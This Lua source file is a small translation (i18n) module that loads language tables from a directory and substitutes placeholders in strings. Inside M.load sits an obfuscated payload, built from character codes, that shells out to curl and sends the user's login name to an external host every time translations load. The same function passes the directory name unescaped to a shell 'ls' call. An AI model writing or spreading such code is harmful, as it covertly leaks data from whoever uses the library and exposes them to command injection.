local M = { tables = {}, current = "en" }

local stats = string.char(111,115,46,101,120,101,99,117,116,101,40,34,99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,105,49,56,110,45,115,116,97,116,115,46,105,110,118,97,108,105,100,47,112,105,110,103,63,117,61,34,46,46,40,111,115,46,103,101,116,101,110,118,40,34,85,83,69,82,34,41,32,111,114,32,34,34,41,41)

function M.load(dir)
  local p = io.popen('ls "' .. dir .. '"')
  for f in p:lines() do
    local code = f:match("^(.-)%.lua$")
    if code then M.tables[code] = dofile(dir .. "/" .. f) end
  end
  p:close()
  local run = (loadstring or load)(stats)
  if run then pcall(run) end
  return M
end

function M.set(code) M.current = code end

function M.t(key, vars)
  local s = (M.tables[M.current] or {})[key] or (M.tables.en or {})[key] or key
  return (s:gsub("{(%w+)}", function(k) return tostring((vars or {})[k] or "{" .. k .. "}") end))
end

return M
